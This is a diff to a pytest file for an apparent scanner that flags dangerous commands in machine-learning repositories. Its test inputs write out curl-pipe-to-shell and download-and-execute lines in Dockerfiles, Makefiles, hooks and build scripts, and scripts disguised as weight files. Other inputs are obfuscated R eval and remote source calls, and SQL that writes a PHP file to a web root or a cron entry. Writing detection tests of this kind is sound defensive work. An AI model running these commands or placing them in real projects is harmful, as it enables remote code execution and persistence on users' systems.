@@ -36,6 +36,41 @@ def test_commands(name, pattern, severity):
 
 
 @pytest.mark.parametrize(
+    ("name", "text"),
+    [
+        ("Dockerfile", "FROM x\nRUN curl -s http://x/y | sh\n"),
+        ("Makefile", "X := $(shell curl -s http://x/y | sh)\n"),
+        ("setup.sh", "wget http://x/y -O y && chmod +x y && ./y\n"),
+        ("pre-commit", "#!/bin/sh\ncurl -s http://x/y | sh\n"),
+        ("train.py", "import subprocess\nsubprocess.run('curl -s http://x/y | sh', shell=True)\n"),
+        ("build.rs", 'Command::new("sh").arg("-c").arg("curl -s http://x/y | sh")\n'),
+        ("weights.bin", "#!/bin/sh\necho\n"),
+        ("model.pt", "#!/usr/bin/env python3\nprint(1)\n"),
+    ],
+)
+def test_what_is_fetched_without_encryption_and_scripts_that_pose_as_weights(name, text):
+    assert ("MLG-CMD-001", "high") in verdicts(text, name)
+    if "http:" in text:
+        milder = verdicts(text.replace("http:", "https:"), name)
+        assert milder == ([] if name.endswith((".py", ".rs")) else [("MLG-CMD-001", "info")])
+
+
+@pytest.mark.parametrize(
+    ("text", "severity"),
+    [
+        ("invisible(do.call(intToUtf8(c(115, 121)), list('x')))", "high"),
+        ("eval(parse(text = readLines(url('https://x/y'))))", "high"),
+        ("eval(parse(text = rawToChar(base64decode(x))))", "high"),
+        ("source('http://x/y.R')", "high"),
+        ("source('R/utils.R'); eval(parse(text = 'x + 1')); do.call(rbind, rows)", None),
+        ("system('git rev-parse HEAD')", None),
+    ],
+)
+def test_source_in_r(text, severity):
+    assert verdicts(f"x <- 1\n{text}\n", "analysis.R") == ([("MLG-CMD-001", severity)] if severity else [])
+
+
+@pytest.mark.parametrize(
     "command",
     [
         "python -c 'import os; os.system(1)'",
@@ -66,7 +101,8 @@ def test_python_on_a_command_line(command):
 def test_what_r_runs_when_it_starts(line, severity):
     expected = [("MLG-CMD-001", severity)] if severity else []
     assert verdicts(f"options(digits = 4)\n{line}\n", ".Rprofile") == expected
-    assert verdicts(f"{line}\n", "analysis.R") == []
+    hidden = severity and "http:" in line and line.startswith("source")
+    assert verdicts(f"{line}\n", "analysis.R") == (expected if hidden else [])
 
 
 @pytest.mark.parametrize(
@@ -79,6 +115,11 @@ def test_what_r_runs_when_it_starts(line, severity):
         "SELECT load_extension('./evil.so');",
         "CREATE FUNCTION f() RETURNS void AS $$ pass $$ LANGUAGE plpython3u;",
         "SELECT 'x' INTO OUTFILE '/var/www/x.php'",
+        "\n.shell id",
+        "\n\\! id",
+        "ATTACH DATABASE '/var/www/x.php' AS x;",
+        "COPY (SELECT 1) TO '/etc/cron.d/x' (FORMAT csv);",
+        "INSTALL x FROM 'http://x/y'; LOAD x;",
     ],
 )
 def test_sql_that_leaves_the_database(statement):
